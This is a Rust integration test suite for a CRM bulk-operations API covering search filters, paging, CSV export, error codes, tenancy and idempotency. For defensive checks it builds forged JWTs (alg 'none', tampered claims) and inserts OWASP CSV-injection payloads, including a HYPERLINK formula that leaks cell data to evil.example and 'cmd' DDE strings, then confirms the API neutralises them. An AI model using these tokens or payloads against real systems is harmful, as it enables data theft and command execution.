//! The API's edges: filter semantics, paging, CSV, bad input, authentication,
//! permissions, tenancy, preview, 409 and Idempotency-Key replay.

use std::time::Duration;

use bulkops_tests::api::{Api, token, token_with};
use bulkops_tests::env::SECRET;
use bulkops_tests::fixture::{self, World, insert};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

fn ids(reply: &Value) -> Vec<i64> {
    reply["items"]
        .as_array()
        .map(|a| a.iter().filter_map(|i| i["id"].as_i64()).collect())
        .unwrap_or_default()
}

async fn search(api: &Api, token: &str, filter: Value) -> Vec<i64> {
    let r = api
        .post(
            "/v1/individuals/search",
            token,
            &json!({"filter": filter, "limit": 1000}),
        )
        .await
        .expect("search");
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(
        r.json["total"].as_u64().unwrap_or(0) as usize,
        ids(&r.json).len()
    );
    ids(&r.json)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filter_semantics_paging_and_csv() {
    let env = crate::env("filter").await;
    let db = &env.db;
    let w = World::new(db, "Filter Agency").await;
    let agent = fixture::agent(db, w.agency).await;
    let mk = |state: &str, status: &str, dob: &str, created: &str| {
        json!({"agency_id": w.agency, "first_name": "F", "state": state, "status": status, "dob": dob,
               "created_at": created, "servicing_agent_id": agent})
    };
    let tx_active = insert(
        db,
        "individuals",
        &mk("TX", "Active", "1950-01-01", "2026-01-01T00:00:00Z"),
    )
    .await;
    let ok_active = insert(
        db,
        "individuals",
        &mk("OK", "Active", "1960-12-31", "2026-06-30T23:59:59Z"),
    )
    .await;
    let tx_inactive = insert(
        db,
        "individuals",
        &mk("TX", "Inactive", "1949-12-31", "2026-07-01T00:00:00Z"),
    )
    .await;
    let la_active = insert(
        db,
        "individuals",
        &mk("LA", "Active", "1961-01-01", "2025-12-31T23:59:59Z"),
    )
    .await;
    let other = World::new(db, "Other").await;
    insert(
        db,
        "individuals",
        &json!({"agency_id": other.agency, "state": "TX", "status": "Active"}),
    )
    .await;
    // Policies: tx_active has one policy matching both criteria; ok_active has two
    // policies each matching only one criterion (must not match).
    insert(db, "policies", &json!({"agency_id": w.agency, "individual_id": tx_active, "coverage_type": "Medicare Supplement", "status": "Active", "effective_date": "2026-02-01"})).await;
    insert(db, "policies", &json!({"agency_id": w.agency, "individual_id": ok_active, "coverage_type": "Medicare Supplement", "status": "Cancelled", "effective_date": "2026-02-01"})).await;
    insert(db, "policies", &json!({"agency_id": w.agency, "individual_id": ok_active, "coverage_type": "Dental", "status": "Active", "effective_date": "2026-02-01"})).await;
    insert(db, "policies", &json!({"agency_id": w.agency, "individual_id": la_active, "coverage_type": "Medicare Supplement", "status": "Active", "effective_date": "2025-12-31"})).await;

    let (_, api) = env.start_producer().await.expect("producer");
    let t = w.token();
    assert_eq!(
        search(&api, &t, json!({})).await,
        vec![tx_active, ok_active, tx_inactive, la_active],
        "{{}} matches the agency's Individuals only"
    );
    // OR within a list, AND across keys.
    assert_eq!(
        search(&api, &t, json!({"individual": {"state": ["TX", "OK"]}})).await,
        vec![tx_active, ok_active, tx_inactive]
    );
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"state": ["TX", "OK"], "status": ["Active"]}})
        )
        .await,
        vec![tx_active, ok_active]
    );
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"servicing_agent_id": [agent], "state": ["LA"]}})
        )
        .await,
        vec![la_active]
    );
    // Inclusive ranges, either end optional.
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"dob": {"from": "1950-01-01", "to": "1960-12-31"}}})
        )
        .await,
        vec![tx_active, ok_active]
    );
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"dob": {"to": "1950-01-01"}}})
        )
        .await,
        vec![tx_active, tx_inactive]
    );
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"created_at": {"from": "2026-01-01", "to": "2026-06-30"}}})
        )
        .await,
        vec![tx_active, ok_active]
    );
    // Policy criteria must hold on one policy.
    assert_eq!(
        search(
            &api,
            &t,
            json!({"policy": {"coverage_type": ["Medicare Supplement"], "status": ["Active"]}})
        )
        .await,
        vec![tx_active, la_active]
    );
    assert_eq!(search(&api, &t, json!({"policy": {"coverage_type": ["Medicare Supplement"], "effective_date": {"from": "2026-01-01"}}})).await, vec![tx_active, ok_active]);
    // Empty lists mean no condition.
    assert_eq!(
        search(
            &api,
            &t,
            json!({"individual": {"state": [], "zip": []}, "policy": {"carrier": []}})
        )
        .await
        .len(),
        4
    );

    // Paging by id.
    let p1 = api
        .post(
            "/v1/individuals/search",
            &t,
            &json!({"filter": {}, "limit": 3}),
        )
        .await
        .expect("page");
    assert_eq!(p1.json["total"], 4);
    assert_eq!(ids(&p1.json), vec![tx_active, ok_active, tx_inactive]);
    assert_eq!(p1.json["next_after"], tx_inactive);
    let p2 = api
        .post(
            "/v1/individuals/search",
            &t,
            &json!({"filter": {}, "limit": 3, "after": tx_inactive}),
        )
        .await
        .expect("page");
    assert_eq!(ids(&p2.json), vec![la_active]);
    assert!(p2.json["next_after"].is_null());
    let item = &p1.json["items"][0];
    for key in [
        "id",
        "first_name",
        "last_name",
        "status",
        "state",
        "servicing_agent_id",
        "has_sales_record",
    ] {
        assert!(item.get(key).is_some(), "search item has {key}: {item}");
    }
    for bad in [0, 1001] {
        let r = api
            .post(
                "/v1/individuals/search",
                &t,
                &json!({"filter": {}, "limit": bad}),
            )
            .await
            .expect("search");
        assert_eq!(r.status, StatusCode::BAD_REQUEST);
        assert_eq!(r.json["errors"][0]["field"], "limit");
    }

    // CSV: header then one row per match.
    let csv = api
        .post(
            "/v1/individuals/search.csv",
            &t,
            &json!({"filter": {"individual": {"state": ["TX"]}}}),
        )
        .await
        .expect("csv");
    assert_eq!(csv.status, StatusCode::OK);
    assert!(
        csv.content_type().starts_with("text/csv"),
        "{}",
        csv.content_type()
    );
    let lines: Vec<&str> = csv.text.lines().collect();
    assert_eq!(
        lines[0],
        "id,first_name,last_name,status,state,servicing_agent_id,has_sales_record"
    );
    assert_eq!(lines.len(), 3);
    assert!(
        lines[1].starts_with(&format!("{tx_active},F,,Active,TX,{agent},false")),
        "{}",
        lines[1]
    );
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_input_is_a_400_naming_the_field_and_bad_tokens_are_401() {
    let env = crate::env("badinput").await;
    let db = &env.db;
    let w = World::new(db, "Input Agency").await;
    let other = World::new(db, "Other").await;
    let inactive = fixture::user(db, w.agency, "agency_user").await;
    db_exec(
        &env,
        &format!("UPDATE users SET active = false WHERE id = {inactive}"),
    )
    .await;
    let (_, api) = env.start_producer().await.expect("producer");
    let t = w.token();
    for (filter, field) in [
        (
            json!({"individual": {"shoe_size": ["9"]}}),
            "filter.individual.shoe_size",
        ),
        (
            json!({"individual": {"state": "TX"}}),
            "filter.individual.state",
        ),
        (
            json!({"individual": {"dob": {"from": "1950-02-30"}}}),
            "filter.individual.dob.from",
        ),
        (
            json!({"policy": {"renewal_date": {"to": "next year"}}}),
            "filter.policy.renewal_date.to",
        ),
        (json!({"colour": []}), "filter.colour"),
    ] {
        for path in [
            "/v1/individuals/search",
            "/v1/bulk/sales-records/preview",
            "/v1/bulk/sales-records",
        ] {
            let r = api
                .post(
                    path,
                    &t,
                    &json!({"filter": filter, "record_type_id": w.record_type}),
                )
                .await
                .expect("post");
            assert_eq!(
                r.status,
                StatusCode::BAD_REQUEST,
                "{path} {filter}: {}",
                r.text
            );
            assert!(
                r.content_type().starts_with("application/problem+json"),
                "{}",
                r.content_type()
            );
            assert_eq!(r.json["status"], 400);
            for k in ["type", "title", "detail"] {
                assert!(r.json[k].is_string(), "{k} in {}", r.json);
            }
            assert_eq!(r.json["errors"][0]["field"], field, "{path}: {}", r.json);
        }
    }
    let r = api
        .send(
            Method::POST,
            "/v1/individuals/search",
            Some(&t),
            None,
            &[("content-type", "application/json")],
        )
        .await
        .expect("post");
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let r = api
        .post("/v1/bulk/sales-records", &t, &json!({"filter": {}}))
        .await
        .expect("post");
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(r.json["errors"][0]["field"], "record_type_id");

    // 401: every bad token case.
    let now = chrono::Utc::now().timestamp();
    let claims = |sub: i64, agency: i64, exp: i64| json!({"sub": sub.to_string(), "agency_id": agency, "exp": exp});
    let forged = {
        let good = token(w.admin, w.agency);
        let mut parts: Vec<String> = good.split('.').map(str::to_owned).collect();
        // Tampered claims with the old signature.
        parts[1] = token_with(&claims(other.admin, other.agency, now + 3600), SECRET)
            .split('.')
            .nth(1)
            .unwrap_or_default()
            .to_owned();
        parts.join(".")
    };
    let none_alg = {
        use base64_lite::encode;
        format!(
            "{}.{}.",
            encode(br#"{"alg":"none","typ":"JWT"}"#),
            encode(claims(w.admin, w.agency, now + 3600).to_string().as_bytes())
        )
    };
    let cases: Vec<(&str, Option<String>)> = vec![
        ("missing", None),
        ("malformed", Some("not-a-jwt".into())),
        (
            "expired",
            Some(token_with(&claims(w.admin, w.agency, now - 60), SECRET)),
        ),
        (
            "another key",
            Some(token_with(
                &claims(w.admin, w.agency, now + 3600),
                "some-other-secret",
            )),
        ),
        ("tampered", Some(forged)),
        ("alg none", Some(none_alg)),
        ("unknown user", Some(token(999_999, w.agency))),
        ("inactive user", Some(token(inactive, w.agency))),
        ("other agency", Some(token(w.admin, other.agency))),
        (
            "no exp",
            Some(token_with(
                &json!({"sub": w.admin.to_string(), "agency_id": w.agency}),
                SECRET,
            )),
        ),
    ];
    for (case, tok) in cases {
        for (method, path) in [
            (Method::POST, "/v1/individuals/search"),
            (Method::GET, "/v1/batches"),
            (Method::POST, "/v1/bulk/sales-records"),
        ] {
            let body = json!({"filter": {}, "record_type_id": w.record_type});
            let r = api
                .send(method.clone(), path, tok.as_deref(), Some(&body), &[])
                .await
                .expect("send");
            assert_eq!(
                r.status,
                StatusCode::UNAUTHORIZED,
                "{case} on {path}: {}",
                r.text
            );
            assert!(r.content_type().starts_with("application/problem+json"));
        }
    }
    // Unknown routes and methods are problems too.
    let r = api.get("/v1/nowhere", &t).await.expect("get");
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.content_type().starts_with("application/problem+json"));
    env.finish().await;
}

async fn db_exec(env: &bulkops_tests::TestEnv, sql: &str) {
    use sea_orm::ConnectionTrait;
    env.db
        .execute_unprepared(sql)
        .await
        .unwrap_or_else(|e| panic!("{sql}: {e}"));
}

/// Tiny base64url (no padding) for hand-made tokens.
mod base64_lite {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    pub fn encode(input: &[u8]) -> String {
        let mut out = String::new();
        for chunk in input.chunks(3) {
            let b = [
                chunk[0],
                *chunk.get(1).unwrap_or(&0),
                *chunk.get(2).unwrap_or(&0),
            ];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for i in 0..=chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        out
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn permissions_tenancy_preview_conflict_and_idempotency() {
    let env = crate::env("tenancy").await;
    let db = &env.db;
    let w = World::new(db, "Tenant A").await;
    let other = World::new(db, "Tenant B").await;
    for n in 0..10 {
        let id = insert(
            db,
            "individuals",
            &json!({"agency_id": w.agency, "first_name": format!("A{n}"), "state": "TX"}),
        )
        .await;
        if n < 3 {
            insert(db, "sales_records", &json!({"agency_id": w.agency, "record_type_id": w.record_type, "individual_id": id})).await;
        }
    }
    let other_ind = insert(
        db,
        "individuals",
        &json!({"agency_id": other.agency, "first_name": "B", "state": "TX"}),
    )
    .await;
    let other_saved = insert(
        db,
        "saved_searches",
        &json!({"agency_id": other.agency, "user_id": other.admin, "name": "theirs", "filter": {}}),
    )
    .await;

    // 403: edit access without Sales Enablement, Sales Enablement without edit, view only.
    let no_sales = fixture::user(db, w.agency, "agency_user").await;
    let edit_only = insert(db, "security_groups", &json!({"agency_id": w.agency, "name": "Edit", "individuals_access": "edit", "sales_enablement_visible": false})).await;
    fixture::join(db, no_sales, edit_only).await;
    let no_edit = fixture::user(db, w.agency, "agency_user").await;
    let sales_view = insert(db, "security_groups", &json!({"agency_id": w.agency, "name": "View+Sales", "individuals_access": "view", "sales_enablement_visible": true})).await;
    fixture::join(db, no_edit, sales_view).await;
    // Edit from one group and Sales Enablement from another is enough.
    let split_rights = fixture::user(db, w.agency, "agent_crm_user").await;
    fixture::join(db, split_rights, edit_only).await;
    let sales_only = insert(db, "security_groups", &json!({"agency_id": w.agency, "name": "Sales", "individuals_access": "none", "sales_enablement_visible": true})).await;
    fixture::join(db, split_rights, sales_only).await;

    let api = env.start(1).await.expect("start");
    let t = w.token();
    let body = json!({"filter": {}, "record_type_id": w.record_type});
    for user in [no_sales, no_edit] {
        for path in ["/v1/bulk/sales-records", "/v1/bulk/sales-records/preview"] {
            let r = api
                .post(path, &token(user, w.agency), &body)
                .await
                .expect("post");
            assert_eq!(
                r.status,
                StatusCode::FORBIDDEN,
                "user {user} {path}: {}",
                r.text
            );
            assert!(r.content_type().starts_with("application/problem+json"));
        }
    }
    let r = api
        .post(
            "/v1/bulk/sales-records/preview",
            &token(split_rights, w.agency),
            &body,
        )
        .await
        .expect("post");
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);

    // Preview and tenancy.
    let r = api
        .post("/v1/bulk/sales-records/preview", &t, &body)
        .await
        .expect("preview");
    assert_eq!(
        r.json,
        json!({"total": 10, "already_linked": 3, "to_create": 7})
    );
    assert!(!search(&api, &t, json!({})).await.contains(&other_ind));
    for (body, field) in [
        (
            json!({"filter": {}, "record_type_id": other.record_type}),
            "record_type_id",
        ),
        (
            json!({"saved_search_id": other_saved, "record_type_id": w.record_type}),
            "saved_search_id",
        ),
    ] {
        let r = api
            .post("/v1/bulk/sales-records", &t, &body)
            .await
            .expect("post");
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.text);
        assert_eq!(r.json["errors"][0]["field"], field);
    }
    let r = api
        .get(&format!("/v1/saved-searches/{other_saved}"), &t)
        .await
        .expect("get");
    assert_eq!(r.status, StatusCode::NOT_FOUND);

    // Saved searches round-trip and drive a bulk create.
    let saved = api
        .post(
            "/v1/saved-searches",
            &t,
            &json!({"name": "Texans", "filter": {"individual": {"state": ["TX"]}}}),
        )
        .await
        .expect("save");
    assert_eq!(saved.status, StatusCode::CREATED, "{}", saved.text);
    let saved_id = saved.json["id"].as_i64().expect("id");
    assert_eq!(
        saved.json["filter"],
        json!({"individual": {"state": ["TX"]}})
    );
    assert!(saved.json["created_at"].is_string());
    let list = api.get("/v1/saved-searches", &t).await.expect("list");
    assert_eq!(list.json["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(
        api.get(&format!("/v1/saved-searches/{saved_id}"), &t)
            .await
            .expect("get")
            .json["name"],
        "Texans"
    );

    // 409 when the search finds a different number now; nothing is created.
    let r = api.post("/v1/bulk/sales-records", &t, &json!({"saved_search_id": saved_id, "record_type_id": w.record_type, "expected_total": 9})).await.expect("post");
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text);
    assert_eq!(env.count("SELECT count(*) FROM bulk_batches").await, 0);

    // Idempotency-Key: the same answer, one batch.
    let req =
        json!({"saved_search_id": saved_id, "record_type_id": w.record_type, "expected_total": 10});
    let key = [("Idempotency-Key", "abc-123")];
    let first = api
        .send(
            Method::POST,
            "/v1/bulk/sales-records",
            Some(&t),
            Some(&req),
            &key,
        )
        .await
        .expect("post");
    assert_eq!(first.status, StatusCode::ACCEPTED, "{}", first.text);
    let second = api
        .send(
            Method::POST,
            "/v1/bulk/sales-records",
            Some(&t),
            Some(&req),
            &key,
        )
        .await
        .expect("post");
    assert_eq!(second.status, StatusCode::ACCEPTED);
    assert_eq!(first.json, second.json);
    assert_eq!(first.json["total"], 10);
    let batch = first.json["batch_id"].as_i64().expect("batch");
    assert_eq!(
        first.headers.get("location").and_then(|v| v.to_str().ok()),
        Some(format!("/v1/batches/{batch}").as_str())
    );
    assert_eq!(
        second.headers.get("location"),
        first.headers.get("location")
    );
    assert_eq!(env.count("SELECT count(*) FROM bulk_batches").await, 1);
    let reused = api
        .send(
            Method::POST,
            "/v1/bulk/sales-records",
            Some(&t),
            Some(&json!({"filter": {}, "record_type_id": w.record_type})),
            &key,
        )
        .await
        .expect("post");
    assert_eq!(
        reused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        reused.text
    );
    // Another user's same key is another request.
    let theirs = api
        .send(
            Method::POST,
            "/v1/bulk/sales-records",
            Some(&token(split_rights, w.agency)),
            Some(&req),
            &key,
        )
        .await
        .expect("post");
    assert_eq!(theirs.status, StatusCode::ACCEPTED);
    assert_ne!(theirs.json["batch_id"], first.json["batch_id"]);

    let done = api
        .wait_completed(&t, batch, Duration::from_secs(120))
        .await
        .expect("completed");
    assert_eq!(
        done["counts"],
        json!({"pending": 0, "created": 7, "converted": 0, "skipped": 3, "failed": 0})
    );
    for key in [
        "id",
        "kind",
        "state",
        "total",
        "counts",
        "requested_by",
        "record_type_id",
        "filter",
        "created_at",
        "completed_at",
    ] {
        assert!(done.get(key).is_some(), "batch has {key}");
    }
    assert_eq!(done["requested_by"], w.admin);
    // Batches are the agency's: the other agency sees none of them.
    let theirs_token = other.token();
    assert_eq!(
        api.get(&format!("/v1/batches/{batch}"), &theirs_token)
            .await
            .expect("get")
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        api.get(&format!("/v1/batches/{batch}/items"), &theirs_token)
            .await
            .expect("get")
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        api.get("/v1/batches", &theirs_token)
            .await
            .expect("get")
            .json["items"],
        json!([])
    );
    let mine = api
        .get(
            "/v1/batches?kind=create_sales_records&state=completed&limit=10",
            &t,
        )
        .await
        .expect("list");
    assert!(
        mine.json["items"]
            .as_array()
            .is_some_and(|a| a.iter().any(|b| b["id"] == batch))
    );
    assert_eq!(
        api.get("/v1/batches?kind=bogus", &t)
            .await
            .expect("list")
            .status,
        StatusCode::BAD_REQUEST
    );
    // Items: filter by status, paging, CSV.
    let skipped = api
        .get(&format!("/v1/batches/{batch}/items?status=skipped"), &t)
        .await
        .expect("items");
    assert_eq!(skipped.json["items"].as_array().map(Vec::len), Some(3));
    assert!(
        skipped.json["items"]
            .as_array()
            .is_some_and(|a| a.iter().all(|i| i["reason"] == "already_has_sales_record"))
    );
    let page = api
        .get(&format!("/v1/batches/{batch}/items?limit=4"), &t)
        .await
        .expect("items");
    assert_eq!(page.json["next_after"], 4);
    let csv = api
        .get(&format!("/v1/batches/{batch}/items.csv"), &t)
        .await
        .expect("csv");
    assert!(csv.content_type().starts_with("text/csv"));
    assert_eq!(
        csv.text.lines().next(),
        Some("seq,target_id,status,result_id,reason")
    );
    assert_eq!(csv.text.lines().count(), 11);
    env.finish().await;
}

/// Parses a CSV body into rows of cells (RFC 4180).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("csv record").iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_are_spreadsheet_safe_and_json_is_unchanged() {
    let env = crate::env("csv_safe").await;
    let db = &env.db;
    let w = World::new(db, "Spreadsheet Agency").await;
    // Hostile names (OWASP's CSV injection examples) and ordinary ones.
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "Smith",
        ),
        ("=cmd|' /C calc'!A0", "+SUM(1+1)"),
        ("-2+3+cmd|' /C calc'!A0", "@SUM(A1)"),
        ("\t=1+1", "\r=1+1"),
        ("-5", "O'Brien"),
        ("Maria", "Garcia"),
    ];
    let mut ids = Vec::new();
    for (first, last) in hostile {
        ids.push(
            insert(
                db,
                "individuals",
                &json!({"agency_id": w.agency, "first_name": first, "last_name": last,
                        "status": "=Active", "state": "TX"}),
            )
            .await,
        );
    }
    let api = env.start(1).await.expect("start");
    let t = w.token();

    // search.csv: every cell that begins with = + - @ tab or CR starts with a quote; the
    // rest of the text is all there; plain numbers (ids, "-5") are left as they are.
    let r = api
        .post("/v1/individuals/search.csv", &t, &json!({"filter": {}}))
        .await
        .expect("csv");
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let rows = csv_rows(&r.text);
    assert_eq!(rows.len(), 1 + hostile.len());
    for (row, ((first, last), id)) in rows[1..].iter().zip(hostile.iter().zip(&ids)) {
        let safe = |s: &str| {
            if s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err() {
                format!("'{s}")
            } else {
                s.to_owned()
            }
        };
        assert_eq!(row[0], id.to_string());
        assert_eq!(row[1], safe(first), "{row:?}");
        assert_eq!(row[2], safe(last), "{row:?}");
        assert_eq!(row[3], "'=Active");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "unsafe cell {cell:?} in {row:?}"
            );
        }
    }
    assert_eq!(rows[5][1], "-5", "a plain number is not text");
    assert_eq!(rows[2][1], "'=cmd|' /C calc'!A0");

    // JSON answers carry the stored values unchanged.
    let r = api
        .post("/v1/individuals/search", &t, &json!({"filter": {}}))
        .await
        .expect("search");
    let items = r.json["items"].as_array().expect("items");
    for (item, (first, last)) in items.iter().zip(hostile) {
        assert_eq!(item["first_name"], first);
        assert_eq!(item["last_name"], last);
        assert_eq!(item["status"], "=Active");
    }

    // items.csv and the CLI's CSV go through the same rule (their cells are ids, statuses
    // and reasons: nothing to quote, and numbers stay numbers).
    let batch = api
        .bulk_create(&t, &json!({"filter": {}, "record_type_id": w.record_type}))
        .await
        .expect("create");
    api.wait_completed(&t, batch, Duration::from_secs(120))
        .await
        .expect("completed");
    let r = api
        .get(&format!("/v1/batches/{batch}/items.csv"), &t)
        .await
        .expect("items.csv");
    let rows = csv_rows(&r.text);
    assert_eq!(
        rows[0],
        ["seq", "target_id", "status", "result_id", "reason"]
    );
    assert_eq!(rows.len(), 1 + hostile.len());
    assert!(
        rows[1..]
            .iter()
            .all(|r| r[2] == "created" && !r[3].is_empty())
    );
    let (ok, out, err) = env
        .cli(&["batch", "items", &batch.to_string(), "--csv"])
        .await
        .expect("cli");
    assert!(ok.success(), "{err}");
    assert_eq!(csv_rows(&out), rows);
    env.finish().await;
}
